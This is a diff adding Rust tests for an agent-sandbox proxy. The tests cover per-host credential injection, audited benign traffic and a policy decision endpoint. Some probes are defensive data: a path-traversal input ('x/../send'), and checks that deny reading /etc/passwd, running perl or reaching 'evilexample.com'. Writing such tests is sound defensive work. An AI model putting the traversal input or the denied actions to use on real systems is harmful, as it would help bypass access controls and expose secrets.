+            _ => key.is_empty() && auth.is_empty(),
+        };
+        if !ok {
+            failures.push(format!("a credential went to the wrong host: {q}"));
+        }
+    }
+    if !reqs.iter().any(|q| q["host"] == "files.example.net") || !reqs.iter().any(|q| q["host"] == "www.example.com") {
+        failures.push(format!("the credential controls did not reach the server: {} {}", out[base + 5], out[base + 6]));
+    }
+    if out[base + 7]["alpn"] == "h2" {
+        failures.push(format!("the proxy negotiated h2: {}", out[base + 7]));
+    }
+    assert!(!l.log_text().contains(GMAIL_TOKEN) && !l.log_text().contains(FILES_KEY), "a secret reached the audit log");
+    assert!(failures.is_empty(), "{} API gate check(s) failed:\n{}\nserver saw: {reqs:#?}", failures.len(), failures.join("\n"));
+}
+
+/// Adds `trick=NN` to the query of a raw request's target (not to `PRI *`).
+fn mark(raw: &str, i: usize) -> String {
+    let Some((line, rest)) = raw.split_once("\r\n") else { return raw.to_string() };
+    let mut parts: Vec<&str> = line.splitn(3, ' ').collect();
+    if parts.len() != 3 || parts[1] == "*" {
+        return raw.to_string();
+    }
+    let sep = if parts[1].contains('?') { '&' } else { '?' };
+    let target = format!("{}{sep}trick={i:02}", parts[1]);
+    parts[1] = &target;
+    format!("{}\r\n{rest}", parts.join(" "))
+}
+
+/// Benign tools through the proxy, each working and audited as allowed: curl (tunnel and
+/// inspect, with the credential injected), Python urllib and requests, git clone over HTTPS
+/// (dumb HTTP), a 24 MiB chunked upload whose SHA-256 the server confirms (inspect mode, and
+/// 8 MiB through a tunnel), server-sent events arriving one by one (inspect and tunnel), and a
+/// WebSocket echo (inspect and tunnel).
+#[test]
+fn benign_tools_work_through_the_proxy() {
+    if !ready() {
+        return;
+    }
+    let tmp = tempfile::Builder::new().prefix("aegis-up-git-").tempdir_in("/var/tmp").unwrap();
+    let Some(up) = upstream("benign", Some(git_repo(tmp.path()))) else { return };
+    let lab = Lab::new();
+    let m = "https://gmail.googleapis.com/gmail/v1/users/me/messages";
+    let ops = json!([
+        {"op": "curl", "url": "https://www.example.com/curl"},
+        {"op": "curl", "url": m},
+        {"op": "urllib", "url": "https://www.example.com/urllib"},
+        {"op": "urllib", "url": format!("{m}/m1")},
+        {"op": "requests", "url": "https://www.example.com/requests"},
+        {"op": "requests", "url": format!("{m}/m2/modify"), "method": "POST", "headers": {"Content-Type": "application/json"}, "body": "{\"addLabelIds\": [\"Label_1\"]}"},
+        {"op": "git_clone", "url": "https://git.example.com/repo.git", "dest": "/tmp/clone"},
+        {"op": "upload", "target": "files.example.net:443", "path": "/upload", "mb": 24},
+        {"op": "upload", "target": "www.example.com:443", "path": "/upload", "mb": 8},
+        {"op": "sse", "target": "files.example.net:443", "path": "/events"},
+        {"op": "sse", "target": "www.example.com:443", "path": "/events"},
+        {"op": "ws", "target": "files.example.net:443", "path": "/ws", "messages": ["hello", "x".repeat(300)]},
+        {"op": "ws", "target": "ws.example.com:443", "path": "/ws", "messages": ["tunnelled"]},
+    ]);
+    let (out, l) = probe(&lab, &up, &[], &ops);
+    let mut failures = Vec::new();
+    let mut check = |ok: bool, what: &str, r: &Value| {
+        if !ok {
+            failures.push(format!("{what}: {r}"));
+        }
+    };
+    check(status(&out[0]) == 200 && out[0]["body"].as_str().unwrap().contains("www.example.com/curl"), "curl (tunnel)", &out[0]);
+    check(status(&out[1]) == 200 && out[1]["body"].as_str().unwrap().contains("\"m1\""), "curl (inspect, token injected)", &out[1]);
+    check(status(&out[2]) == 200 && out[2]["body"].as_str().unwrap().contains("www.example.com/urllib"), "urllib (tunnel)", &out[2]);
+    check(status(&out[3]) == 200 && out[3]["body"].as_str().unwrap().contains("Quarterly"), "urllib (inspect)", &out[3]);
+    check(status(&out[4]) == 200 && out[4]["body"].as_str().unwrap().contains("www.example.com/requests"), "requests (tunnel)", &out[4]);
+    check(status(&out[5]) == 200 && out[5]["body"].as_str().unwrap().contains("Label_1"), "requests (inspect, POST modify)", &out[5]);
+    check(out[6]["rc"] == 0 && out[6]["content"]["README.md"] == "fetched through the AEGIS proxy\n", "git clone over HTTPS", &out[6]);
+    for (k, what, mb) in [(7, "24 MiB chunked upload (inspect)", 24), (8, "8 MiB chunked upload (tunnel)", 8)] {
+        let r = &out[k];
+        check(
+            status(r) == 200 && r["server"]["sha256"] == r["local_sha256"] && r["server"]["bytes"] == mb * 1024 * 1024 && r["server"]["chunked"] == true,
+            what,
+            r,
+        );
+    }
+    for (k, what) in [(9, "server-sent events (inspect)"), (10, "server-sent events (tunnel)")] {
+        let t: Vec<f64> = out[k]["events"].as_array().map(|e| e.iter().map(|x| x["t"].as_f64().unwrap()).collect()).unwrap_or_default();
+        // Five events 250 ms apart: the first must arrive long before the last was sent.
+        check(status(&out[k]) == 200 && t.len() == 5 && t[4] - t[0] > 0.75, what, &out[k]);
+    }
+    check(out[11]["status"] == 101 && out[11]["accept_ok"] == true && out[11]["echo"] == json!(["hello", "x".repeat(300)]) && out[11]["close_echoed"] == true, "WebSocket (inspect)", &out[11]);
+    check(out[12]["status"] == 101 && out[12]["echo"] == json!(["tunnelled"]), "WebSocket (tunnel)", &out[12]);
+
+    // The server saw the credentials where they belong.
+    let reqs = up.requests();
+    for q in &reqs {
+        let expect_key = q["host"] == "files.example.net";
+        if expect_key != (header_values(q, "X-Api-Key") == [FILES_KEY]) {
+            failures.push(format!("credential of files.example.net wrong on {q}"));
+        }
+    }
+    // Every request allowed and audited; curl's requests name curl as the executable.
+    let recs = l.proxy_records();
+    // (A client closing an idle kept-alive connection is pinned by its own test below.)
+    if let Some(d) = recs.iter().find(|r| r["decision"] == "deny" && !is_idle_close(r)) {
+        failures.push(format!("a benign request was denied: {d}"));
+    }
+    for (host, path) in [("gmail.googleapis.com", "/gmail/v1/users/me/messages/m2/modify"), ("files.example.net", "/upload"), ("files.example.net", "/events"), ("files.example.net", "/ws")] {
+        if !recs.iter().any(|r| r["host"] == host && r["path"] == path && r["decision"] == "allow" && r["mode"] == "inspect") {
+            failures.push(format!("no inspect allow record for {host}{path}"));
+        }
+    }
+    for host in ["www.example.com", "git.example.com", "ws.example.com"] {
+        if !recs.iter().any(|r| r["host"] == host && r["decision"] == "allow" && r["mode"] == "tunnel") {
+            failures.push(format!("no tunnel allow record for {host}"));
+        }
+    }
+    if let Some(up_rec) = recs.iter().find(|r| r["host"] == "files.example.net" && r["path"] == "/upload")
+        && up_rec["bytes_up"].as_u64().unwrap_or(0) < 24 * 1024 * 1024
+    {
+        failures.push(format!("the upload's bytes_up is too small: {up_rec}"));
+    }
+    if !recs.iter().any(|r| r["host"] == "gmail.googleapis.com" && r["exe"] == "/usr/bin/curl") {
+        failures.push(format!("no record names /usr/bin/curl as the requesting executable: {:?}", recs.iter().map(|r| (&r["host"], &r["exe"])).collect::<Vec<_>>()));
+    }
+    assert!(failures.is_empty(), "{} benign workload(s) failed:\n{}", failures.len(), failures.join("\n"));
+}
+
+/// The decision endpoint answers framework questions from the policy (as `aegisc check`
+/// does), refuses malformed ones with 400, and audits each; `examples/python/aegis_client.py`
+/// (its `check_*` methods and the `@requires` decorator) works inside the sandbox.
+#[test]
+fn the_decision_endpoint_and_the_python_client_answer_from_the_policy() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("decision", None) else { return };
+    let lab = Lab::new();
+    let examples = repo_root().join("examples/python").display().to_string();
+    let script = format!(
+        r#"
+import json, sys
+sys.path.insert(0, {examples:?})
+from aegis_client import AegisClient, Denied, requires
+c = AegisClient()
+out = {{
+  "modify_scope": c.check_api("gmail", "https://www.googleapis.com/auth/gmail.modify").verdict,
+  "send_scope": c.check_api("gmail", "https://www.googleapis.com/auth/gmail.send").verdict,
+  "send": c.check_http("gmail", "POST", "/gmail/v1/users/me/messages/send").verdict,
+  "git": c.check_exec("/usr/bin/git").verdict,
+  "perl": c.check_exec("/usr/bin/perl").verdict,
+  "passwd": c.check_fs("read", "/etc/passwd").verdict,
+  "net_ok": c.check_net("www.example.com", 443).verdict,
+  "net_evil": c.check_net("evilexample.com", 443).verdict,
+}}
+@requires(api="gmail", method="POST", path="/gmail/v1/users/me/messages/{{message_id}}/modify")
+def label(message_id):
+    return "labelled " + message_id
+@requires(api="gmail", method="POST", path="/gmail/v1/users/me/messages/send")
+def send():
+    return "sent"
+out["label"] = label("m1")
+try:
+    send()
+    out["send_tool"] = "ran"
+except Denied as e:
+    out["send_tool"] = "denied: " + e.decision.reason
+print(json.dumps(out))
+"#
+    );
+    let ops = json!([
+        {"op": "decision", "body": {"kind": "http", "api": "gmail", "method": "GET", "path": "/gmail/v1/users/me/messages/m1"}},
+        {"op": "decision", "body": {"kind": "http", "api": "gmail", "method": "POST", "path": "/gmail/v1/users/me/messages/x/../send"}},
+        {"op": "decision", "body": {"kind": "fs", "access": "read", "path": "/etc/passwd"}},
+        {"op": "decision", "body": "this is not json"},
+        {"op": "decision", "body": {"kind": "bogus"}},
+        {"op": "decision", "body": {"kind": "net", "host": "www.example.com", "port": 70000}},
+        {"op": "run", "argv": ["/usr/bin/python3", "-c", script]},
+    ]);
+    let (out, l) = probe(&lab, &up, &[], &ops);
+    assert_eq!(out[0]["status"], 200, "{}", out[0]);
+    assert_eq!(out[0]["json"]["verdict"], "ALLOW", "{}", out[0]);
+    assert!(out[0]["json"]["rule"]["text"].as_str().is_some_and(|t| t.contains("GET /gmail/v1/users/me/messages/*")), "{}", out[0]);
+    assert_eq!(out[1]["json"]["verdict"], "DENY", "{}", out[1]);
+    assert_eq!(out[2]["json"]["verdict"], "DENY", "{}", out[2]);
+    for r in &out[3..6] {
+        assert_eq!(r["status"], 400, "malformed question: {r}");
+        assert!(r["json"]["error"].as_str().is_some_and(|e| !e.is_empty()), "{r}");
+    }
+    assert_eq!(out[6]["rc"], 0, "{}", out[6]);
+    let py: Value = serde_json::from_str(out[6]["stdout"].as_str().unwrap().trim()).unwrap();
+    assert_eq!(
+        py,
+        json!({
+            "modify_scope": "ALLOW", "send_scope": "DENY", "send": "DENY", "git": "ALLOW", "perl": "DENY",
+            "passwd": "DENY", "net_ok": "ALLOW", "net_evil": "DENY", "label": "labelled m1",
+            "send_tool": py["send_tool"],
+        }),
+        "{py}"
+    );
+    assert!(py["send_tool"].as_str().unwrap().starts_with("denied: "), "{py}");
+    let decisions = l.proxy_records().into_iter().filter(|r| r["mode"] == "decision").count();
+    // 3 well-formed questions + 10 from the client (8 checks and 2 decorated tools).
+    assert!(decisions >= 13, "each question is audited: {decisions} decision records");
+    assert!(up.requests().is_empty(), "questions never reach upstream");
+}
+
+fn to_hex(s: &str) -> String {
+    s.bytes().map(|b| format!("{b:02x}")).collect()
+}
+
+/// A denial record the proxy writes when a client closes a kept-alive inspected connection
+/// between requests without a TLS close_notify (what Python's ssl module does).
+fn is_idle_close(r: &Value) -> bool {
+    r["decision"] == "deny" && r["method"].is_null() && r["bytes_up"] == 0 && r["reason"].as_str().is_some_and(|x| x.contains("close_notify") || x.contains("message head"))
+}
+
+/// Finding (proxy): a client that closes an inspected keep-alive connection after its last
+/// response, without a TLS close_notify (Python `requests` does exactly that at exit),
+/// gets a `proxy_request` DENY record "malformed request: read failed while reading a
+/// message head: peer closed connection without sending TLS close_notify". No request was
+/// made, so nothing was denied: the audit log shows a denial for every benign Python call.
+#[test]
+#[ignore = "BUG (proxy): closing an idle inspected connection without close_notify is audited as a denied malformed request"]
+fn closing_an_idle_inspected_connection_is_not_audited_as_a_denial() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("idle", None) else { return };
+    let lab = Lab::new();
+    // `requests` keeps the connection alive and closes it when the process exits.
+    let (out, l) = probe(&lab, &up, &[], &json!([{"op": "requests", "url": "https://gmail.googleapis.com/gmail/v1/users/me/labels"}]));
+    assert_eq!(status(&out[0]), 200, "{}", out[0]);
+    let recs = l.proxy_records();
+    let denials: Vec<&&Value> = recs.iter().filter(|r| r["decision"] == "deny").collect();
+    assert!(denials.is_empty(), "one allowed request, yet: {denials:?}");
+    assert_eq!(recs.len(), 1, "one record per request: {recs:?}");
 }
